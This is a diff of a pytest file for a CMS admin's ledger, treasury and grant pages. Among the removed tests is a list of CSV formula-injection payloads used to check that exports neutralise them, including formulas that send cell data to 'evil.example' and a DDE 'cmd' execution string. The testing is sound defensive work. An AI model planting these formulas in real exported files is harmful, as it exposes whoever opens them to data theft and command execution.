@@ -1,28 +1,19 @@
 """The money pages of the admin: who sees which, and that they say what the books say."""
 
-import csv
-import io
 import re
-from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from sqlalchemy import text
 
-from cms.admin.ledger_csv import BYTE_ORDER_MARK, COLUMNS, plain, safe
 from cms.ledger.accounts import trial_balance
-from cms.people.models import AuditEntry
 from cms.services.articles.publish import publish_article
-from cms.services.dealings.comments import moderate_comment, post_comment
+from cms.services.dealings.comment_removal import moderate_comment
+from cms.services.dealings.comments import post_comment
 from cms.services.money.grant import grant
-from tests.support.story import FIGURES, tell
-from tests.support.world import TWEI, draft, person
+from tests.support.story import FIGURES
+from tests.support.world import TWEI, draft
 
 pytestmark = pytest.mark.databases("sqlite")
-
-
-@pytest.fixture
-def told(tribune, clock, once):
-    return once("told", lambda: tell(tribune, clock))
 
 
 def shown(page, label):
@@ -30,11 +21,6 @@ def shown(page, label):
     found = re.search(rf">{label}<.*?<data[^>]*value=\"([^\"]+)\"", page.text, re.DOTALL)
     assert found, label
     return round(float(found[1]) * TWEI)
-
-
-def issued(tribune):
-    with tribune.reading() as session:
-        return -trial_balance(session).get("mint", 0)
 
 
 # --- who sees what -------------------------------------------------------------------------
@@ -162,237 +148,6 @@ def test_proving_needs_the_right_and_the_forms_token(site, desk):
     assert desk("author").post("/admin/treasury/verify").status_code == 403
     assert desk("editor").client.post("/admin/treasury/verify").status_code == 400
     assert desk("admin").get("/admin/treasury/verify").status_code == 404
-
-
-# --- the ledger ----------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("query", "said"),
-    [
-        ("amount=x", "is not an amount of Twei"),
-        ("amount=1.0000001", "is not an amount of Twei"),
-        ("person=Nobody", "Nobody is called Nobody"),
-        ("article=no+such", "No article has this number"),
-        ("since=yesterday", "Not a valid date"),
-        ("until=0001-01-01", "A year from 2000 on"),
-        ("until=9999-12-31", "A year from 2000 on"),
-        ("event=%00", "cannot be searched for"),
-        ("plugin=%00", "cannot be searched for"),
-        ("line=" + "x" * 201, "cannot be longer"),
-    ],
-)
-def test_a_condition_that_makes_no_sense_says_so(site, desk, query, said):
-    for path in ("/admin/ledger", "/admin/ledger.csv"):
-        page = desk("editor", f"E{len(path)}").get(f"{path}?{query}")
-        assert page.status_code == 422
-        assert said in page.text
-
-
-def test_conditions_can_be_joined(told, desk):
-    _author, _readers, article, _table = told
-    editor = desk("editor")
-    query = f"article={article}&person=reader+0&line=earned_for_pluses&plugin=read_to_earn"
-    page = editor.get(f"/admin/ledger?{query}&kind=post&amount=0.56&since=2026-03-01").text
-    assert page.count('class="when"') == 1
-    assert "Nothing matches" in editor.get(f"/admin/ledger?{query}&kind=reverse").text
-
-
-def test_an_entry_names_its_event_and_its_settings(told, desk):
-    _author, readers, article, _table = told
-    editor = desk("editor")
-    key = f"react:{readers[0]}:article-{article}:1"
-    found = re.search(r"/admin/ledger/(\d+)", editor.get(f"/admin/ledger?event={key}").text)
-    page = editor.get(found[0]).text
-    assert key in page
-    assert "settings version" in page
-    assert "What else it caused" in page
-    assert "&#34;reaction&#34;: &#34;plus&#34;" in page
-
-
-def rows_of(answer):
-    assert answer.text.startswith(BYTE_ORDER_MARK)
-    return list(csv.DictReader(io.StringIO(answer.text.removeprefix(BYTE_ORDER_MARK), newline="")))
-
-
-def test_the_file_holds_what_the_search_finds(told, desk):
-    _author, _readers, article, _table = told
-    answer = desk("editor").get(f"/admin/ledger.csv?article={article}&line=comment_tributes")
-    assert answer.mimetype == "text/csv"
-    assert "attachment" in answer.headers["Content-Disposition"]
-    assert "\r\n" in answer.text
-    (row,) = rows_of(answer)
-    assert list(row) == list(COLUMNS)
-    assert (row["from"], row["to"], row["amount_twei"]) == ("Reader 0", "The house", "1.000000")
-
-
-def test_a_long_file_says_what_it_left_out(told, desk, monkeypatch):
-    monkeypatch.setattr("cms.services.money.search_ledger.EXPORT_ROWS_MAX", 20)
-    monkeypatch.setattr("cms.services.money.search_ledger.EXPORT_CHUNK_ROWS", 10)
-    rows = rows_of(desk("editor").get("/admin/ledger.csv"))
-    assert len(rows) == 21
-    assert rows[-1]["recorded_at"].startswith("Only the newest")
-    assert len({(row["entry"], row["from"], row["to"]) for row in rows[:-1]}) > 10
-
-
-FORMULAS = (
-    "=1+1",
-    "+1",
-    "-1+cmd|' /C calc'!A0",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    " =1",
-    "  @x",
-    "\u00a0=1",
-    "\u3000=1",
-    "\uff1d1",
-    "\uff0b1",
-    "\uff0d1",
-    "\uff20x",
-    '=HYPERLINK("http://evil.example?"&A1,"x")',
-    '=cmd|"/C calc"!A0',
-    '=IMPORTXML(CONCAT("http://evil.example",A1))',
-    '",=1',
-    "x\r\n=1,=2",
-)
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_cell_becomes_a_formula(text):
-    row = io.StringIO(newline="")
-    csv.writer(row, lineterminator="\r\n").writerow([safe(text), "1.000000"])
-    (cells,) = csv.reader(io.StringIO(row.getvalue(), newline=""))
-    assert len(cells) == 2
-    assert cells[0].strip(" \u00a0\u3000")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
-    assert cells[0].removeprefix("'") == text
-
-
-@pytest.mark.parametrize("text", ["Ada", "", "a=b", "3 > 2", "it's", "Zoë", "“quoted”"])
-def test_a_plain_cell_stays_as_it_is(text):
-    assert safe(text) == text
-
-
-def test_a_name_and_a_reason_reach_the_file_as_text(tribune, desk):
-    person(tribune, "=cmd|calc")
-    grant(tribune, TWEI, reason='@SUM(A1), "quoted"', nickname="=cmd|calc")
-    gift = rows_of(desk("editor").get("/admin/ledger.csv"))[0]
-    assert (gift["to"], gift["note"]) == ("'=cmd|calc", '\'@SUM(A1), "quoted"')
-
-
-@pytest.mark.parametrize(
-    ("amount", "written"),
-    [(0, "0.000000"), (1, "0.000001"), (-1_500_000, "-1.500000"), (10**15, "1000000000.000000")],
-)
-def test_numbers_are_plain_decimals(amount, written):
-    assert plain(amount) == written
-
-
-# --- grants --------------------------------------------------------------------------------
-
-FORM = {"amount": "12.5", "payee": "treasury", "reason": "Advertising", "nickname": ""}
-
-
-@pytest.fixture
-def form(desk):
-    """An owner at the grant form, and what it holds."""
-    owner = desk("owner")
-    page = owner.get("/admin/treasury/grant").text
-    reference = re.search(r'name="reference"[^>]*value="([^"]+)"', page)[1]
-    return owner, {**FORM, "reference": reference}
-
-
-def test_a_grant_is_given_and_listed_with_its_reason(form, tribune):
-    owner, words = form
-    done = owner.post("/admin/treasury/grant", words)
-    assert (done.status_code, done.location) == (302, "/admin/treasury")
-    page = owner.get("/admin/treasury").text
-    assert "12.50 Twei granted to the treasury" in page
-    assert "Advertising" in page.split('id="grants"')[1]
-    assert issued(tribune) == 12_500_000
-
-
-def test_a_double_click_grants_once(form, tribune):
-    owner, words = form
-    for _click in range(2):
-        assert owner.post("/admin/treasury/grant", words).status_code == 302
-    assert issued(tribune) == 12_500_000
-    with tribune.reading() as session:
-        assert session.query(AuditEntry).filter_by(action="money.grant").count() == 1
-
-
-def test_two_forms_are_two_grants(form, tribune):
-    owner, words = form
-    page = owner.get("/admin/treasury/grant").text
-    other = re.search(r'name="reference"[^>]*value="([^"]+)"', page)[1]
-    owner.post("/admin/treasury/grant", words)
-    owner.post("/admin/treasury/grant", {**words, "reference": other})
-    assert issued(tribune) == 25_000_000
-
-
-@pytest.mark.parametrize(
-    ("wrong", "said"),
-    [
-        ({"amount": ""}, "Say how much"),
-        ({"amount": "0"}, "more than nothing"),
-        ({"amount": "-5"}, "more than nothing"),
-        ({"amount": "1e3"}, "is not an amount"),
-        ({"amount": "1,5"}, "is not an amount"),
-        ({"amount": "0.0000001"}, "is not an amount"),
-        ({"amount": "9999999999"}, "at most 1000000000.00 Twei"),
-        ({"amount": "9" * 31}, "cannot be longer"),
-        ({"reason": ""}, "Say what the grant is for"),
-        ({"reason": "   "}, "Say what the grant is for"),
-        ({"reason": "x" * 201}, "cannot be longer"),
-        ({"reason": "a\x00b"}, "control characters"),
-        ({"payee": "person"}, "Say who gets it"),
-        ({"payee": "person", "nickname": "Nobody"}, "Nobody is called Nobody"),
-        ({"payee": "mint"}, "Choose one"),
-        ({"reference": ""}, "This form is damaged"),
-        ({"reference": "demo-1"}, "This form is damaged"),
-    ],
-)
-def test_a_wrong_grant_comes_back_with_what_was_typed(form, tribune, wrong, said):
-    owner, words = form
-    page = owner.post("/admin/treasury/grant", {**words, **wrong})
-    assert page.status_code == 422
-    assert said in page.text
-    assert issued(tribune) == 0
-    kept = {**words, **wrong}["reason"]
-    assert "\x00" in kept or f'value="{kept}"' in page.text
-
-
-@pytest.mark.parametrize("role", ["editor", "author", "moderator"])
-def test_who_may_not_grant_sees_no_form_and_grants_nothing(desk, tribune, role):
-    somebody = desk(role)
-    assert somebody.get("/admin/treasury/grant").status_code == 403
-    assert somebody.post("/admin/treasury/grant", FORM).status_code == 403
-    assert "Grant Twei" not in somebody.get("/admin/treasury").text
-    assert issued(tribune) == 0
-
-
-def test_the_password_is_asked_for_before_the_form_is_shown(desk, clock):
-    owner = desk("owner")
-    clock.advance(minutes=11)
-    asked = owner.get("/admin/treasury/grant")
-    assert asked.location == "/admin/confirm?next=/admin/treasury/grant"
-
-
-def test_what_was_typed_survives_a_confirmation_that_ran_out(form, tribune, clock):
-    owner, words = form
-    clock.advance(minutes=11)
-    asked = owner.post("/admin/treasury/grant", words)
-    assert issued(tribune) == 0
-    where = parse_qs(urlsplit(asked.location).query)["next"][0]
-    done = owner.post(asked.location, {"password": "a long sentence of nobody"})
-    assert done.location == where
-    page = owner.get(where).text
-    assert 'value="12.5"' in page
-    assert 'value="Advertising"' in page
-    assert words["reference"] in page
-    owner.post("/admin/treasury/grant", words)
-    assert issued(tribune) == 12_500_000
 
 
 def test_what_something_caused_leads_to_the_act_that_undoes_it(site, desk):
